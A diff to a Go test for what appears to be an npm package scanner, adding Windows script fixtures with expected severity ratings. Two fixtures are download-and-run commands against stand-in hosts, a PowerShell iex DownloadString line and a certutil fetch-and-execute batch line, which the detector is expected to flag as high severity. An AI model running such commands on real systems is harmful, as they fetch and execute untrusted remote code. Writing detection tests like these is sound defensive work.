@@ -23,6 +23,11 @@ func TestNativeExecutable(t *testing.T) {
 		{"exe_unused", map[string]string{"package.json": rt.Pkg(""), "tools/helper.exe": pe}, finding.SeverityMedium},
 		{"platform_package_elf", map[string]string{"package.json": rt.Pkg(`"os":["linux"],"cpu":["x64"]`), "bin/tool": elf}, finding.SeverityInfo},
 		{"native_addon", map[string]string{"package.json": rt.Pkg(""), "dist/x.win32-x64.node": pe, "index.js": `const {spawn}=require("child_process");require("./dist/x.win32-x64.node");spawn("git")`}, finding.SeverityInfo},
+		// Windows scripts are read
+		{"cmd_shim", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/run"}`), "bin/run": "#!/usr/bin/env node\nrequire('../lib/cli')", "bin/run.cmd": "@echo off\r\nnode \"%~dp0\\run\" %*\r\n"}, finding.SeverityLow},
+		{"ps1_download_run", map[string]string{"package.json": rt.Pkg(""), "tools/update.ps1": "$u='https://dl.example.invalid/a.ps1'\r\niex (New-Object Net.WebClient).DownloadString($u)\r\n"}, finding.SeverityHigh},
+		{"bat_certutil", map[string]string{"package.json": rt.Pkg(""), "setup.bat": "certutil -urlcache -split -f http://203.0.113.9/s.exe %TEMP%\\s.exe && %TEMP%\\s.exe\r\n"}, finding.SeverityHigh},
+		{"cmd_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"setup.cmd"}`), "setup.cmd": "@echo off\r\necho hi\r\n"}, finding.SeverityCritical},
 		{"no_binaries", map[string]string{"package.json": rt.Pkg(""), "index.js": "module.exports = 1"}, finding.SeverityNone},
 	})
 }
